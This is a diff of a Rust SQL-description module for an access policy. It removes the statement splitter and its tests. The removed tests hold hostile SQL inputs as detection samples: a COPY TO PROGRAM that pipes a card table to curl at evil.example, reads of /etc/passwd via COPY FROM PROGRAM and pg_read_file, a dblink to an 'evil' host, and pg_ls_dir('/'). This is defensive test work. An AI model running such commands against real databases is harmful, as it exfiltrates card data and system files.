@@ -1,9 +1,7 @@
-//! SQL text → one [`Sql`] command per statement, parsed with sqlparser's PostgreSQL dialect.
-//!
-//! The message is split at top-level semicolons by the tokenizer (so semicolons inside strings,
-//! quoted identifiers, comments and dollar-quoted bodies do not split), and each statement is
-//! parsed on its own: one bad statement gets its own `parse-error` while the others are still
-//! described. What the policy sees is the statement's original text, not a re-rendering.
+//! The second reading of one statement, by sqlparser (PostgreSQL dialect): what the server's
+//! grammar does not summarise cheaply — each write with its WHERE, the top-level WHERE and
+//! LIMIT, COPY's direction and endpoint — plus its own list of tables and functions, which
+//! `mod.rs` joins with the server's. The text is one statement as the server split it.
 
 use crate::policy::{CopyTarget, Sql, SqlCopy, SqlWrite};
 use sqlparser::ast::{
@@ -12,49 +10,44 @@ use sqlparser::ast::{
 };
 use sqlparser::dialect::PostgreSqlDialect;
 use sqlparser::parser::Parser;
-use sqlparser::tokenizer::{Token, Tokenizer};
 use std::collections::HashSet;
 use std::ops::ControlFlow;
 
-/// Split and describe every statement of `text`. Empty statements are skipped; a message of
-/// only whitespace and comments gives no statements.
-pub fn parse(text: &str) -> Vec<Sql> {
-    let dialect = PostgreSqlDialect {};
-    let tokens = match Tokenizer::new(&dialect, text).tokenize_with_location() {
-        Ok(tokens) => tokens,
-        Err(e) => return vec![unparsed(text, e.to_string())],
-    };
-    let offsets = LineOffsets::new(text);
-    let mut statements = Vec::new();
-    let mut start = 0;
-    let mut meaningful = false;
-    for t in &tokens {
-        match &t.token {
-            Token::SemiColon => {
-                let end = offsets.byte(text, t.span.start.line, t.span.start.column);
-                if meaningful {
-                    statements.push(describe(text[start..end].trim()));
-                }
-                start = end + 1;
-                meaningful = false;
-            }
-            Token::Whitespace(_) | Token::EOF => {}
-            _ => meaningful = true,
-        }
-    }
-    if meaningful && start <= text.len() {
-        statements.push(describe(text[start..].trim()));
-    }
-    statements
+/// One statement as sqlparser reads it; for PREPARE also the statement it prepares.
+pub(super) struct Described {
+    pub sql: Sql,
+    pub inner: Option<Sql>,
 }
 
 /// Describe one statement's text.
-fn describe(text: &str) -> Sql {
+pub(super) fn describe(text: &str) -> Described {
     let statement = match Parser::parse_sql(&PostgreSqlDialect {}, text) {
         Ok(mut v) if v.len() == 1 => v.remove(0),
-        Ok(v) => return unparsed(text, format!("expected one statement, found {}", v.len())),
-        Err(e) => return unparsed(text, e.to_string()),
+        Ok(v) => {
+            let e = format!("expected one statement, found {}", v.len());
+            return Described {
+                sql: unparsed(text, e),
+                inner: None,
+            };
+        }
+        Err(e) => {
+            return Described {
+                sql: unparsed(text, e.to_string()),
+                inner: None,
+            };
+        }
     };
+    let inner = match &statement {
+        Statement::Prepare { statement, .. } => Some(describe_statement(text, statement)),
+        _ => None,
+    };
+    Described {
+        sql: describe_statement(text, &statement),
+        inner,
+    }
+}
+
+fn describe_statement(text: &str, statement: &Statement) -> Sql {
     let mut facts = Facts::default();
     let _ = statement.visit(&mut facts);
     let cte_names = facts.cte_names;
@@ -66,16 +59,18 @@ fn describe(text: &str) -> Sql {
         .filter(|t| !cte_names.contains(t) && !table_functions.contains(t))
         .filter(|t| seen.insert(t.clone()))
         .collect();
-    let (has_where, limit) = top_level_filters(&statement);
+    let (has_where, limit) = top_level_filters(statement);
     Sql {
         text: text.to_string(),
-        kind: kind(&statement).to_string(),
+        kind: kind(statement).to_string(),
+        statement_type: String::new(),
+        settings: Vec::new(),
         tables,
         writes: facts.writes,
         has_where,
         limit,
         functions: dedup(facts.functions),
-        copy: copy_of(&statement),
+        copy: copy_of(statement),
         parse_error: None,
     }
 }
@@ -84,6 +79,8 @@ fn unparsed(text: &str, error: String) -> Sql {
     Sql {
         text: text.to_string(),
         kind: "unknown".to_string(),
+        statement_type: String::new(),
+        settings: Vec::new(),
         tables: Vec::new(),
         writes: Vec::new(),
         has_where: false,
@@ -334,174 +331,4 @@ fn dedup(mut v: Vec<String>) -> Vec<String> {
     let mut seen = HashSet::new();
     v.retain(|s| seen.insert(s.clone()));
     v
-}
-
-/// Maps the tokenizer's (line, column) locations back to byte offsets of the source.
-struct LineOffsets {
-    starts: Vec<usize>,
-}
-
-impl LineOffsets {
-    fn new(text: &str) -> LineOffsets {
-        let mut starts = vec![0];
-        starts.extend(text.match_indices('\n').map(|(i, _)| i + 1));
-        LineOffsets { starts }
-    }
-
-    /// Byte offset of 1-based `line`, 1-based character `column`.
-    fn byte(&self, text: &str, line: u64, column: u64) -> usize {
-        let line_start = self
-            .starts
-            .get((line as usize).saturating_sub(1))
-            .copied()
-            .unwrap_or(0);
-        let rest = &text[line_start..];
-        let col = (column as usize).saturating_sub(1);
-        line_start + rest.char_indices().nth(col).map_or(rest.len(), |(i, _)| i)
-    }
-}
-
-#[cfg(test)]
-mod tests {
-    #![allow(clippy::unwrap_used)]
-    use super::*;
-
-    fn one(text: &str) -> Sql {
-        let mut v = parse(text);
-        assert_eq!(v.len(), 1, "{text}: {v:?}");
-        v.remove(0)
-    }
-
-    #[test]
-    fn splits_at_top_level_semicolons_only() {
-        let v =
-            parse("SELECT 'a;b'; /* ; */ SELECT $$x;y$$ ;; -- trailing ;\n SELECT \"c;d\" FROM t");
-        let texts: Vec<_> = v.iter().map(|s| s.text.as_str()).collect();
-        assert_eq!(
-            texts,
-            [
-                "SELECT 'a;b'",
-                "/* ; */ SELECT $$x;y$$",
-                "-- trailing ;\n SELECT \"c;d\" FROM t"
-            ]
-        );
-        assert!(v.iter().all(|s| s.parse_error.is_none()), "{v:?}");
-        assert!(parse("  -- only a comment\n").is_empty());
-        assert!(parse("").is_empty());
-    }
-
-    #[test]
-    fn kinds_tables_and_filters() {
-        let s = one(
-            "select name, pan from public.cards c join Owners o on o.id = c.owner where c.id = 1 limit 10",
-        );
-        assert_eq!(s.kind, "select");
-        assert_eq!(s.tables, ["public.cards", "owners"]);
-        assert!(s.has_where);
-        assert_eq!(s.limit, Some(10));
-
-        let s = one("SELECT * FROM \"Cards\" FETCH FIRST 5 ROWS ONLY");
-        assert_eq!(s.tables, ["Cards"]);
-        assert_eq!(s.limit, Some(5));
-        assert!(!s.has_where);
-        assert_eq!(one("SELECT * FROM cards LIMIT ALL").limit, None);
-        assert_eq!(one("SELECT * FROM cards LIMIT $1").limit, None);
-
-        for (sql, kind) in [
-            ("dRoP tAbLe cards", "drop"),
-            ("TRUNCATE cards", "truncate"),
-            ("ALTER TABLE cards ADD COLUMN x int", "alter"),
-            ("GRANT SELECT ON cards TO bob", "grant"),
-            ("REVOKE SELECT ON cards FROM bob", "revoke"),
-            ("CREATE TABLE t (id int)", "create"),
-            ("BEGIN", "begin"),
-            ("COMMIT", "commit"),
-            ("ROLLBACK", "rollback"),
-            ("SET search_path = x", "set"),
-            ("SHOW search_path", "show"),
-            ("EXPLAIN SELECT 1", "explain"),
-            ("INSERT INTO cards (pan) VALUES ('x')", "insert"),
-        ] {
-            assert_eq!(one(sql).kind, kind, "{sql}");
-        }
-        assert_eq!(one("DROP TABLE cards").tables, ["cards"]);
-        assert_eq!(one("SELECT * INTO copy_of_cards FROM cards").kind, "create");
-    }
-
-    #[test]
-    fn writes_are_found_in_ctes_and_keep_their_where() {
-        let s = one("WITH gone AS (DELETE FROM cards RETURNING *) SELECT * FROM gone");
-        assert_eq!(s.kind, "select");
-        assert_eq!(s.tables, ["cards"], "CTE names are not tables");
-        assert_eq!(s.writes.len(), 1);
-        assert_eq!(s.writes[0].kind, "delete");
-        assert_eq!(s.writes[0].table, "cards");
-        assert!(!s.writes[0].has_where);
-
-        let s = one("UPDATE cards SET pan = NULL WHERE id = 3");
-        assert_eq!(
-            (
-                s.writes[0].kind.as_str(),
-                s.writes[0].has_where,
-                s.has_where
-            ),
-            ("update", true, true)
-        );
-        let s = one("DELETE FROM \"Cards\"");
-        assert_eq!(
-            (s.writes[0].table.as_str(), s.writes[0].has_where),
-            ("Cards", false)
-        );
-        let s = one("INSERT INTO Public.Cards SELECT * FROM staging");
-        assert_eq!(s.writes[0].table, "public.cards");
-        assert_eq!(s.tables, ["public.cards", "staging"]);
-    }
-
-    #[test]
-    fn copy_and_functions() {
-        let s = one("COPY cards TO PROGRAM 'curl -d @- evil.example'");
-        assert_eq!(s.kind, "copy");
-        let copy = s.copy.unwrap();
-        assert!(!copy.is_from);
-        assert_eq!(
-            copy.target,
-            CopyTarget::Program("curl -d @- evil.example".into())
-        );
-        let s = one("COPY cards FROM PROGRAM 'cat /etc/passwd'");
-        assert!(s.copy.unwrap().is_from);
-        let s = one("COPY (SELECT pan FROM cards) TO STDOUT");
-        assert_eq!(s.copy.unwrap().target, CopyTarget::Stdio);
-        assert_eq!(s.tables, ["cards"]);
-        assert_eq!(one("COPY Cards TO STDOUT").tables, ["cards"]);
-        assert_eq!(
-            one("COPY (SELECT pan FROM cards LIMIT 5) TO STDOUT").limit,
-            Some(5)
-        );
-
-        let s = one("SELECT pg_read_file('/etc/passwd'), lower(name) FROM cards");
-        assert_eq!(s.functions, ["pg_read_file", "lower"]);
-        // Set-returning functions in FROM are calls, not tables.
-        let s = one("SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)");
-        assert!(s.tables.is_empty(), "{:?}", s.tables);
-        assert_eq!(s.functions, ["dblink"]);
-        let s = one("SELECT * FROM pg_ls_dir('/') JOIN cards ON true");
-        assert_eq!(s.tables, ["cards"]);
-        assert_eq!(s.functions, ["pg_ls_dir"]);
-    }
-
-    #[test]
-    fn string_literals_are_not_statements_and_bad_sql_is_flagged() {
-        let s = one("SELECT 'DROP TABLE cards' AS note");
-        assert_eq!(s.kind, "select");
-        assert!(s.tables.is_empty());
-
-        let v = parse("SELECT 1; DROP TABLE cards; SELEC oops");
-        assert_eq!(v.len(), 3);
-        assert_eq!(v[1].kind, "drop");
-        assert_eq!(v[2].kind, "unknown");
-        assert!(v[2].parse_error.is_some());
-
-        let s = one("SELECT 'unterminated");
-        assert!(s.parse_error.is_some());
-    }
 }
